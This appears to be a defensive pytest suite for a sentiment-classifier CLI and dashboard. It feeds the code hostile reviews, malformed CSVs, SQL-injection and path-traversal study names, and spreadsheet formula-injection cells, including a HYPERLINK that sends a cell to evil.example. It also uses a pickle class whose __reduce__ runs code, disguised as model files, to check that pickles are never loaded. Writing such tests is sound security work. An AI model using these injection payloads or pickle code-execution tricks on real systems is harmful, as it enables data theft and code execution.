"""Hostile input to the CLI, predict, dashboard and store: clear words, no loss, no pickle."""
from __future__ import annotations

import csv
import io
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import optuna
import pandas as pd
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from dashboard import live_views, views
from storage.errors import StorageError
from storage.models import RunRow
from storage.store import open_store
from tests.dashboard import builders
from tests.trainer.conftest import build_tiny_model
from trainer import predict
from trainer.cli import main
from trainer.errors import DataError, ModelError

REPO = Path(__file__).resolve().parents[1]
APP = REPO / "dashboard" / "app.py"
HUNDRED_K = ("A great film, a moving story. " * 3400)[:100_000]
VALID = {  # each one is a review the models must classify
    "nul and control characters": "A great film\x00 with\x07 a \x1b[31mwonderful\x7f cast",
    "emoji": "😀🎬 loved it, a wonderful film 👍👍",
    "right-to-left": "\u202eevil mlif doog \u200fفيلم رائع جدا",
    "hebrew": "סרט נורא ומשעמם",
    "chinese": "这部电影很好看，演员非常出色",
    "german": "Ein wunderbarer Film mit großartigen Schauspielern",
    "zero-width only": "\u200b\u200b",
}
REFUSED = {  # each one gets a clear sentence instead of a prediction
    "empty": ("", "the review is empty"),
    "whitespace only": (" \n\t\r\u3000 ", "the review is empty"),
    "control characters only": ("\x00\x01\x7f", "the review is empty"),
    "100,000 characters": (HUNDRED_K, "has 100,000 characters; shorten it to at most 20,000"),
}
STUDY_NAMES = ("'; DROP TABLE trials;--", "../x")
ONE_EPOCH = {"num_train_epochs": {"low": 1, "high": 1},
             "per_device_train_batch_size": {"choices": [16]}}


def _error_line(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1, err  # one clear sentence, no traceback
    return err[0]


def _run_ids(db: str) -> list[int]:
    with open_store(db) as store:
        return [r.id for r in store.list_runs()]


def _baseline_label(db: str) -> str:
    with open_store(db) as store:
        return store.list_runs(stage="baseline")[-1].label  # as the dashboard names it


def _predictions(capsys: pytest.CaptureFixture[str], n: int, db: str) -> list[dict]:
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert len(lines) == n
    model = _baseline_label(db)
    assert model.startswith("TF-IDF baseline: ")
    for line in lines:
        assert line["label"] in ("positive", "negative") and 0.5 <= line["score"] <= 1
        assert 0 <= line["prob_positive"] <= 1 and line["model"] == model
    return lines


@pytest.fixture(scope="module")
def baseline_db(small_imdb: Path, tmp_path_factory: pytest.TempPathFactory) -> str:
    """A SQLite database holding a real baseline trained on the 200 reviews (read-only here)."""
    folder = tmp_path_factory.mktemp("baseline")
    db = f"sqlite:///{folder / 's.db'}"
    assert main(["--quiet", "baseline", "--data", str(small_imdb), "--db", db,
                 "--artifacts", str(folder / "art")]) == 0
    return db


@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory: pytest.TempPathFactory) -> str:
    return build_tiny_model(tmp_path_factory.mktemp("tiny-bert"))


class Evil:
    """Unpickling this creates the marker file: proof that a pickle was loaded."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return open, (str(self.marker), "w")


@pytest.fixture
def evil(tmp_path: Path, tiny_model: str, baseline_db: str) -> Iterator[dict[str, Path]]:
    """Pickles dressed as models; the marker must never exist, during or after the test."""
    marker, root = tmp_path / "PICKLE-WAS-LOADED", tmp_path / "evil"
    blob = pickle.dumps(Evil(marker))
    paths = {"pickle file": root / "model.pkl", "bin only": root / "bin-only",
             "bin with config": root / "bin-with-config", "baseline npz": root / "baseline"}
    paths["bin only"].mkdir(parents=True)
    paths["pickle file"].write_bytes(blob)
    (paths["bin only"] / "pytorch_model.bin").write_bytes(blob)
    shutil.copytree(tiny_model, paths["bin with config"], ignore=shutil.ignore_patterns("*.safe*"))
    (paths["bin with config"] / "pytorch_model.bin").write_bytes(blob)
    with open_store(baseline_db) as store:  # a real baseline's metadata, pickled arrays
        real = Path(store.list_runs(stage="baseline")[0].spec.artifact)
    paths["baseline npz"].mkdir()
    shutil.copy(real / "baseline.json", paths["baseline npz"])
    evil_array = np.array([Evil(marker)], dtype=object)  # np.savez pickles object arrays
    np.savez(paths["baseline npz"] / "baseline.npz", idf=evil_array, coef=evil_array)
    assert not marker.exists()
    yield {"marker": marker, **paths}
    assert not marker.exists(), "a pickle was loaded"


def test_the_marker_pickles_would_run_code_if_anything_loaded_them(tmp_path: Path) -> None:
    marker = tmp_path / "loaded"
    pickle.loads(pickle.dumps(Evil(marker)))  # what torch.load(weights_only=False) would do
    assert marker.exists()
    marker.unlink()
    np.savez(tmp_path / "a.npz", idf=np.array([Evil(marker)], dtype=object))
    with np.load(tmp_path / "a.npz", allow_pickle=True) as arrays:
        arrays["idf"]
    assert marker.exists()  # so "the marker was never created" below means "never unpickled"


# --- predict -------------------------------------------------------------------------------


def test_predict_classifies_hostile_but_valid_reviews(
    baseline_db: str, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["predict", *VALID.values(), "--db", baseline_db]) == 0
    _predictions(capsys, len(VALID), baseline_db)
    assert main(["predict", "good \ud83d film", "--db", baseline_db]) == 0  # a lone surrogate
    _predictions(capsys, 1, baseline_db)


@pytest.mark.parametrize("name", REFUSED)
def test_predict_refuses_empty_and_oversized_reviews_in_one_line(
    baseline_db: str, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    text, message = REFUSED[name]
    capsys.readouterr()
    assert main(["predict", "a fine film", text, "--db", baseline_db]) == 1
    assert message in _error_line(capsys)


def _hostile_csv() -> bytes:
    rows = ["\ufefftext,id", '"A superb, moving film",1', '"multi\r\nline: great cast",2',
            *(f'"{t}",{i}' for i, t in enumerate(VALID.values(), 3))]
    return "\r\n".join(rows).encode("utf-8") + b"\r\n"


def test_predict_file_reads_bom_crlf_quotes_and_hostile_rows(
    baseline_db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "reviews.csv"
    path.write_bytes(_hostile_csv())
    capsys.readouterr()
    assert main(["predict", "--file", str(path), "--db", baseline_db]) == 0
    _predictions(capsys, 2 + len(VALID), baseline_db)


@pytest.mark.parametrize(("content", "message"), [
    (b"text\r\ngood\r\nbad \xff\xfe film\r\n", "is not valid UTF-8 (line 3)"),
    (b"", "is empty"),
    (b"\xef\xbb\xbftext\r\n", "has a header but no reviews"),
    (b"title,stars\r\nx,1\r\n", "expected a column named 'text' or 'review'"),
    (b"text\r\ngood\r\n   \r\n", "the review is empty"),
    (b"text\r\n" + b"a" * 150_000 + b"\r\n",
     "has a field longer than 131,072 characters on line 2; reviews are limited to 20,000"),
    (b'text\r\ngood\r\n"unclosed\r\n' + b"more\r\n" * 30_000, "is not a readable CSV"),
])
def test_predict_file_refuses_unreadable_csv_in_one_line(
    baseline_db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes,
    message: str,
) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    capsys.readouterr()
    assert main(["predict", "--file", str(path), "--db", baseline_db]) == 1
    assert message in _error_line(capsys)


def test_predict_file_keeps_the_first_review_of_a_headerless_file_and_says_so(
    baseline_db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    reviews = ["A superb, moving film", *VALID.values()]
    path = tmp_path / "no-header.csv"
    path.write_bytes("\r\n".join(f'"{r}"' for r in reviews).encode("utf-8"))
    capsys.readouterr()
    assert main(["predict", "--file", str(path), "--db", baseline_db]) == 0
    out, err = capsys.readouterr()
    assert len(out.splitlines()) == len(reviews)  # stdout: only the JSON lines, the first too
    assert all(json.loads(line)["label"] in ("positive", "negative") for line in out.splitlines())
    assert err.splitlines() == [f"note: {path} has one column and no header row, so its first "
                                "row was read as a review too; to give the file a header, name "
                                "the column text"]
    path.write_bytes(("Text\r\n" + "\r\n".join(f'"{r}"' for r in reviews)).encode("utf-8"))
    assert main(["predict", "--file", str(path), "--db", baseline_db]) == 0
    out, err = capsys.readouterr()
    assert len(out.splitlines()) == len(reviews) and err == ""  # Text is a header: no note


# --- the dashboard's live page -------------------------------------------------------------

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def test_downloads_neutralise_formula_cells_in_every_text_column_only() -> None:
    texts = [*FORMULAS, "A fine film - truly = great", "  =1+1 ", "good\r=1+1"]
    uploaded = pd.DataFrame({"text": texts,  # an upload's columns: text, and numbers
                             "id": ["-1", "@2", "3", "4", "5", "6", "7", "8", "9"],
                             "delta": [-1.5, 2, -3, 4, -5, 6, -7, 8, -9]})  # some negative
    frame = live_views.batch_frame(uploaded, [0.9] * len(texts), [None] * len(texts), "=model")
    shown = frame.copy()
    rows = list(csv.DictReader(io.StringIO(views.safe_csv(frame), newline="")))
    assert [r["text"] for r in rows] == ["'" + t for t in FORMULAS] + texts[len(FORMULAS):]
    assert {r["model"] for r in rows} == {"'=model"} and rows[0]["error"] == ""
    assert [r["id"] for r in rows] == ["'-1", "'@2", "3", "4", "5", "6", "7", "8", "9"]
    assert [float(r["delta"]) for r in rows] == [-1.5, 2, -3, 4, -5, 6, -7, 8, -9]
    assert [float(r["prob_positive"]) for r in rows] == [0.9] * len(texts)
    assert frame.equals(shown)  # the page's table keeps the cells as they came



def test_upload_reader_and_validation_handle_hostile_rows() -> None:
    table = predict.read_reviews_csv(_hostile_csv(), "hostile.csv",
                                     max_rows=live_views.MAX_UPLOAD_ROWS)
    reviews = table.reviews
    assert len(reviews) == 2 + len(VALID) and reviews[1] == "multi\r\nline: great cast"
    assert table.frame["id"].tolist() == [str(i) for i in range(1, 3 + len(VALID))]
    texts = [*reviews, *(text for text, _ in REFUSED.values())]
    cleaned, errors = live_views.validated(texts)
    assert errors[:len(reviews)] == [None] * len(reviews)
    assert all(c.strip() and "\x00" not in c for c in cleaned[:len(reviews)])
    refused = zip(REFUSED.values(), errors[len(reviews):], cleaned[len(reviews):], strict=True)
    for (_, message), error, text in refused:
        assert message in error and text == ""


@pytest.mark.parametrize(("content", "message"), [
    (b"text\r\ngood\r\nbad \xff film\r\n", "up.csv is not valid UTF-8 (line 3)"),
    (b"\xef\xbb\xbf \r\n", "up.csv is empty"),
    (b"text\r\n", "up.csv has a header but no reviews"),
    (b'text\n"unclosed\n', "up.csv is not a readable CSV"),
    (b"text\n" + b"x\n" * (live_views.MAX_UPLOAD_ROWS + 1), "give at most 5,000 at a time"),
])
def test_upload_reader_refuses_unreadable_files_clearly(content: bytes, message: str) -> None:
    with pytest.raises(DataError, match=re.escape(message)):
        predict.read_reviews_csv(content, "up.csv", max_rows=live_views.MAX_UPLOAD_ROWS)


@pytest.fixture
def live_page(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[str], AppTest]]:
    def open_live(db: str) -> AppTest:
        monkeypatch.setenv("SENTIMENT_DB", db)
        at = AppTest.from_file(str(APP), default_timeout=120)
        at.run()
        at.switch_page("app_pages/live.py").run()
        assert not at.exception
        return at

    st.cache_data.clear()
    st.cache_resource.clear()
    yield open_live
    st.cache_resource.clear()


def test_live_page_answers_every_hostile_review(
    baseline_db: str, live_page: Callable[[str], AppTest]
) -> None:
    at = live_page(baseline_db)
    for text in VALID.values():
        at.text_area(key="live_text").set_value(text).run()
        assert not at.exception and not at.error, text
        assert at.metric[0].value in ("positive", "negative")
    for text, message in REFUSED.values():
        at.text_area(key="live_text").set_value(text).run()
        assert not at.exception and not at.metric
        if text:  # an empty box only asks for a review
            assert message in at.error[0].value.replace("\\", "")


# --- study names ---------------------------------------------------------------------------


@pytest.fixture(params=["sqlite-file", "postgresql"])
def url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "sqlite-file":
        return f"sqlite:///{tmp_path / 'runs.db'}"
    return request.getfixturevalue("pg_schema_url")


def test_hostile_study_names_through_tune_lose_nothing(
    url: str, small_imdb: Path, tiny_model: str, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    art = tmp_path / "deep" / "art"
    common = ["--data", str(small_imdb), "--db", url, "--artifacts", str(art)]
    assert main(["--quiet", "baseline", *common]) == 0
    before = _run_ids(url)
    config = tmp_path / "config.json"  # the first name comes from a config file
    config.write_text(json.dumps({"study": STUDY_NAMES[0], "search_space": ONE_EPOCH}))
    tune = ["--quiet", "tune", *common, "--model", tiny_model, "--config", str(config),
            "--trials", "1", "--train-size", "16", "--eval-size", "16", "--max-length", "32"]
    assert main(tune) == 0
    assert main([*tune, "--study", STUDY_NAMES[1]]) == 0
    capsys.readouterr()
    assert main([*tune, "--study", "s" * 600]) == 1
    assert "600 characters; use at most 200" in _error_line(capsys)

    assert sorted(optuna.get_all_study_names(url)) == sorted(STUDY_NAMES)
    with open_store(url) as store:
        assert [r.id for r in store.list_runs(stage="baseline")] == before
        assert store.studies() == sorted(STUDY_NAMES)
        for name in STUDY_NAMES:
            assert sorted(store.trial_runs(name)) == [0]
    assert len(_run_ids(url)) == len(before) + 2
    assert not (tmp_path / "deep" / "x").exists()  # ../x never left the artifacts folder
    assert all(p.parent == art for p in art.iterdir())
    assert main(["report", "--json", "--db", url]) == 0
    report = json.loads(capsys.readouterr().out)
    assert sorted(s["name"] for s in report["studies"]) == sorted(STUDY_NAMES)


def test_the_store_keeps_hostile_study_names_apart(db_url: str) -> None:
    reviews = builders.synthetic_reviews(20)
    names = [f"'; DROP TABLE {RunRow.__tablename__};--", "../x", "名前 🎬 \u202eevil"]
    with open_store(db_url) as store:
        for i, name in enumerate(names):
            builders.save_stage(store, "trial", reviews, 1.0, seed=i, model="m", study=name,
                                trial=0, split="validation", n_bootstrap=0)
        # A 600-character name: SQLite keeps any length; PostgreSQL's column holds 512
        # characters, and the refusal says so in words.
        long_name = {"study": "s" * 600, "trial": 0, "split": "validation", "n_bootstrap": 0}
        if db_url.startswith("postgresql"):
            with pytest.raises(StorageError, match="do not fit the tables"):
                builders.save_stage(store, "trial", reviews, 1.0, seed=9, model="m", **long_name)
        else:
            builders.save_stage(store, "trial", reviews, 1.0, seed=9, model="m", **long_name)
            names.append("s" * 600)
        assert store.studies() == sorted(names)
        for name in names:
            assert [r.spec.study for r in store.list_runs(study=name)] == [name]


# --- pickles passed as models --------------------------------------------------------------


@pytest.mark.parametrize("kind", ["pickle file", "bin only", "bin with config"])
def test_pretrained_refuses_a_pickle_model_without_loading_it(
    kind: str, evil: dict[str, Path], small_imdb: Path, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    capsys.readouterr()
    assert main(["--quiet", "pretrained", "--data", str(small_imdb), "--db", db,
                 "--model", str(evil[kind]), "--test-size", "10", "--max-length", "16"]) == 1
    line = _error_line(capsys)
    assert str(evil[kind]) in line and "safetensors" in line
    assert _run_ids(db) == []


def test_tune_refuses_a_pickle_model_and_stores_no_run(
    evil: dict[str, Path], small_imdb: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    for kind in ("pickle file", "bin with config"):
        capsys.readouterr()
        assert main(["--quiet", "tune", "--data", str(small_imdb), "--db", db, "--model",
                     str(evil[kind]), "--trials", "1", "--train-size", "16",
                     "--eval-size", "16", "--max-length", "16"]) == 1
        last = capsys.readouterr().err.strip().splitlines()[-1]
        assert last.startswith("error: ") and "never loaded" in last
    assert _run_ids(db) == []


def test_tune_with_a_pickle_model_says_so_in_one_line(
    evil: dict[str, Path], small_imdb: Path, tmp_path: Path
) -> None:
    # A real process: Optuna's log handler writes to the stderr it found at import.
    done = subprocess.run(
        [sys.executable, "-m", "trainer", "--quiet", "tune", "--data", str(small_imdb),
         "--db", f"sqlite:///{tmp_path / 's.db'}", "--model", str(evil["pickle file"]),
         "--trials", "1", "--train-size", "16", "--eval-size", "16"],
        cwd=REPO, env={**os.environ, "HF_HUB_OFFLINE": "1"}, capture_output=True, text=True,
        timeout=300, check=False)
    assert done.returncode == 1
    assert "never loaded" in done.stderr.strip().splitlines()[-1]
    assert "Traceback" not in done.stdout + done.stderr, done.stdout


@pytest.mark.parametrize(("kind", "stage"), [("bin only", "finetuned"),
                                             ("bin with config", "finetuned"),
                                             ("baseline npz", "baseline")])
def test_a_stored_run_whose_model_is_a_pickle_is_a_model_error(
    kind: str, stage: str, evil: dict[str, Path], tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    with open_store(db) as store:
        run_id = builders.save_stage(store, stage, builders.synthetic_reviews(20), 1.0, seed=0,
                                     model="evil", artifact=str(evil[kind]), study="s")
        with pytest.raises(ModelError, match=r"safetensors|pickle"):
            predict.load_predictor(store, f"run:{run_id}")
    capsys.readouterr()
    assert main(["predict", "a fine film", "--model-ref", f"run:{run_id}", "--db", db]) == 1
    assert str(evil[kind]) in _error_line(capsys)
    assert _run_ids(db) == [run_id]


def test_live_page_refuses_a_stored_pickle_model_in_words(
    evil: dict[str, Path], tmp_path: Path, live_page: Callable[[str], AppTest]
) -> None:
    db = f"sqlite:///{tmp_path / 's.db'}"
    with open_store(db) as store:
        builders.save_stage(store, "finetuned", builders.synthetic_reviews(20), 1.0, seed=0,
                            model="evil", artifact=str(evil["bin with config"]), study="s")
    at = live_page(db)
    at.text_area(key="live_text").set_value("a wonderful film").run()
    assert not at.exception and not at.metric
    assert "pickle weights are never loaded" in at.error[0].value.replace("\\", "")


def test_predict_never_loads_a_pickle_given_as_model(
    evil: dict[str, Path], baseline_db: str, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    code = main(["predict", "a fine film", "--model", str(evil["pickle file"]),
                 "--db", baseline_db])
    assert code == 1  # predict uses stored models only: --model is refused, never loaded
    assert "--model-ref" in _error_line(capsys)
